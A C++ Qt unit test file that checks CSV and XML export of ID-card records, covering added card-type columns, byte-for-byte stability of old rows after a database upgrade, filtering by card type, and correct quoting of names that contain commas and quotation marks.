        QVERIFY2(cells.size() <= headers.size(), qPrintable(cells.join(u'|')));
        cells.resize(headers.size());
        const QStringList expected = {c.id,
                                      shown(c.name),
                                      c.sex,
                                      c.folk,
                                      c.birthDay,
                                      shown(c.address),
                                      shown(c.newAddress.toString()),
                                      shown(c.issueOrgan),
                                      c.begin,
                                      c.end,
                                      c.times.first(),
                                      c.card.CardType,
                                      shown(c.card.EnglishName),
                                      shown(c.card.Nationality),
                                      QString(),
                                      QString(),
                                      QString(),
                                      QString()};
        for (qsizetype column = 0; column < headers.size(); ++column) {
            // Calc shows numbers and dates as it reads them; only the texts are compared.
            if (column == 0 || column == 4 || (column >= 8 && column <= 10))
                continue;
            QCOMPARE(cells.at(column), expected.at(column));
        }
    }
}

void TestRecordExport::residentRowsStayAsTheyWereOnAnUpgradedDatabase()
{
    ExportFixture fx;
    fx.addMany(30);
    ExportFixture::Citizen odd;
    odd.id = ExportFixture::idNumber(500);
    odd.name = QStringLiteral("O'Brien \"张\"");
    odd.address = QStringLiteral("上海市,黄浦区");
    fx.add(odd);
    const auto exported = [&fx](const QString &name, RecordExport::Format format) {
        const QString path = fx.path(name);
        RecordExport(fx.db()).exportTo(path, format, {});
        return ExportFixture::readFile(path);
    };
    const QByteArray oldCsv = exported(QStringLiteral("OLD.CSV"), RecordExport::Format::Csv);
    const QByteArray oldXml = exported(QStringLiteral("OLD.XML"), RecordExport::Format::Xml);
    fx.addCardColumns();
    const QByteArray newCsv = exported(QStringLiteral("NEW.CSV"), RecordExport::Format::Csv);
    const QByteArray newXml = exported(QStringLiteral("NEW.XML"), RecordExport::Format::Xml);

    // Each line is the line it was, byte for byte, then the seven card fields, empty.
    const QList<QByteArray> before = csvLines(oldCsv);
    const QList<QByteArray> after = csvLines(newCsv);
    QCOMPARE(after.size(), before.size());
    QCOMPARE(after.first(), before.first().chopped(1) + Gbk::encode(u',' + CardHeaders.join(u',')) + '\r');
    for (qsizetype i = 1; i < after.size(); ++i)
        QCOMPARE(after.at(i), before.at(i).chopped(1) + ",,,,,,,\r");

    const ParsedXml o = parseXml(oldXml);
    const ParsedXml n = parseXml(newXml);
    QVERIFY2(n.error.isEmpty(), qPrintable(n.error));
    QCOMPARE(n.names.mid(0, 11), o.names);
    QCOMPARE(n.names.mid(11), Schema::cardColumns());
    QCOMPARE(n.types.mid(11), QStringList(7, QStringLiteral("string")));
    QCOMPARE(n.rows, o.rows); // a NULL card field is no attribute at all
}

void TestRecordExport::cardColumnsFollowTheEleven()
{
    ExportFixture fx;
    fx.addCardColumns();
    ExportFixture::Citizen resident;
    resident.id = ExportFixture::idNumber(1);
    resident.name = QStringLiteral("赵一");
    fx.add(resident);
    const ExportFixture::Citizen permit = permitHolder();
    const ExportFixture::Citizen permanent = permanentResident();
    fx.add(permit);
    fx.add(permanent);

    const QString csv = fx.path(QStringLiteral("CARDS.CSV"));
    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), 3);
    const QByteArray bytes = ExportFixture::readFile(csv);
    QVERIFY(bytes.contains(",\"O'NEIL, MARY \"\"ANN\"\"\",USA,"));
    QList<QStringList> rows;
    for (const QByteArray &line : csvLines(bytes))
        rows << csvFields(Gbk::decode(line.chopped(1)));
    QCOMPARE(rows.size(), 4);
    QCOMPARE(rows.at(0).mid(11), CardHeaders);
    for (const QStringList &row : rows)
        QCOMPARE(row.size(), 18);
    // Ordered by number: the resident card, the permit, the permanent residence card.
    QCOMPARE(rows.at(1).mid(11), QStringList(7, QString()));
    QCOMPARE(rows.at(2).mid(0, 4), (QStringList{permit.id, permit.name, permit.sex, QString()}));
    QCOMPARE(rows.at(2).at(10), permit.times.first());
    QCOMPARE(rows.at(2).mid(11),
             (QStringList{QStringLiteral("J"), QString(), QString(), QStringLiteral("H12345678"),
                          QStringLiteral("01"), QString(), QString()}));
    QCOMPARE(rows.at(3).at(0), permanent.id);
    QCOMPARE(rows.at(3).at(10), QString()); // never verified
    QCOMPARE(rows.at(3).mid(11),
             (QStringList{QStringLiteral("I"), permanent.card.EnglishName, QStringLiteral("USA"), QString(),
                          QString(), QStringLiteral("17"), QStringLiteral("3100")}));

    const QString xml = fx.path(QStringLiteral("CARDS.XML"));
    RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, {});
    const ParsedXml parsed = parseXml(ExportFixture::readFile(xml));
    QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
    QCOMPARE(parsed.names, RecordExport::columnNames() + Schema::cardColumns());
    QCOMPARE(parsed.rows.size(), 3);
    QCOMPARE(parsed.rows.at(1).value(QStringLiteral("PassNumber")), QStringLiteral("H12345678"));
    QVERIFY(!parsed.rows.at(1).contains(QStringLiteral("EnglishName")));
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("EnglishName")), permanent.card.EnglishName);
    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("CardType")), QStringLiteral("I"));

    // A search by card type selects the export as it selects the list.
    for (const auto &[code, id] :
         {std::pair{QString(QStringLiteral("")), resident.id}, std::pair{CardRecord::Permit, permit.id},
          std::pair{CardRecord::Permanent, permanent.id}}) {
        SearchCriteria byType;
        byType.equals = {{SearchCriteria::CardTypeColumn, code}};
        const QString path = fx.path(QStringLiteral("TYPE.XML"));
        QCOMPARE(RecordExport(fx.db()).exportTo(path, RecordExport::Format::Xml, byType), 1);
        QCOMPARE(parseXml(ExportFixture::readFile(path)).rows.first().value(QStringLiteral("IDCardNum")), id);
    }

    // A spreadsheet finds the English name in one cell, quotes and comma included.
    QString skip;
    const QString text = readByCalc(fx, csv, &skip);
    if (!skip.isEmpty())
        QSKIP(qPrintable(skip));
    const QStringList lines = text.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 4);
    const QStringList cells = csvFields(lines.at(3).trimmed());
    QCOMPARE(cells.size(), 18);
    QCOMPARE(cells.at(12), permanent.card.EnglishName);
    QCOMPARE(cells.at(17), QStringLiteral("3100"));
}

QTEST_GUILESS_MAIN(TestRecordExport)
#include "TestRecordExport.moc"
